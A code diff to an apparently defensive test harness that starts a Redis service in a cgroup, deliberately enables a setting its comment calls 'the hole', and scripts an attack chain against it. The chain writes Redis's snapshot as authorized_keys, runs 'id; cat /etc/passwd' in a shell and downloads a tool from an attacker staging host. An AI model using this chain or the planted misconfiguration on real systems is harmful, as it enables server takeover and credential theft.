@@ -21,8 +21,8 @@ class Redis(Service):
     name = "redis"
     packages = "redis-server curl"
 
-    def start(self) -> None:
-        """Start it and return when it answers."""
+    def prepare(self) -> None:
+        """Decide on its options."""
         options = {
             "port": self.port,
             "bind": "127.0.0.1",
@@ -32,9 +32,14 @@ class Redis(Service):
             # what is not seen in learning is not normal.
             "auto-aof-rewrite-min-size": "1mb",
             "save": "5 100",
+            # As before redis 7, so that clients can say where files go: the hole.
+            "enable-protected-configs": "yes",
         }
-        arguments = [str(word) for name, value in options.items() for word in (f"--{name}", value)]
-        self.cgroup.start(["/usr/bin/redis-server", *arguments])
+        self._options = [str(w) for name, value in options.items() for w in (f"--{name}", value)]
+
+    def launch(self) -> None:
+        """Start it and return when it answers."""
+        self.process = self.cgroup.start(["/usr/bin/redis-server", *self._options])
         self.await_port()
 
     def work(self, stop: threading.Event) -> None:
@@ -62,7 +67,7 @@ class Redis(Service):
         """Files through redis's own commands, then a shell inside the cgroup."""
         with attacker() as stage:
             yield [
-                Step("has redis write a file elsewhere", self._write_elsewhere),
+                Step("has redis write a file elsewhere", self.write_elsewhere),
                 Step("has a shell in the cgroup", partial(self._shell, "id; cat /etc/passwd")),
                 Step(
                     f"downloads a tool from {stage}",
@@ -74,9 +79,10 @@ class Redis(Service):
                 ),
             ]
 
-    def _write_elsewhere(self) -> None:
+    def write_elsewhere(self) -> None:
+        """Have redis put its snapshot where it would be the keys of an account."""
         elsewhere = self.folder / "elsewhere"
-        elsewhere.mkdir()
+        elsewhere.mkdir(exist_ok=True)
         with RedisClient(self.port) as client:
             client.command("CONFIG", "SET", "dir", str(elsewhere))
             client.command("CONFIG", "SET", "dbfilename", "authorized_keys")
@@ -103,10 +109,10 @@ class RedisClient:
         """Hang up."""
         self._socket.close()
 
-    def command(self, *words: str) -> None:
-        """Send a command and wait until an answer begins to come."""
+    def command(self, *words: str) -> bytes:
+        """Send a command and wait until an answer begins to come; returns its beginning."""
         self._socket.sendall(_encoded(words))
-        self._socket.recv(65536)
+        return self._socket.recv(65536)
 
     def pipeline(self, *commands: str) -> None:
         """Send commands at once, each a line of words, and read all the answers."""
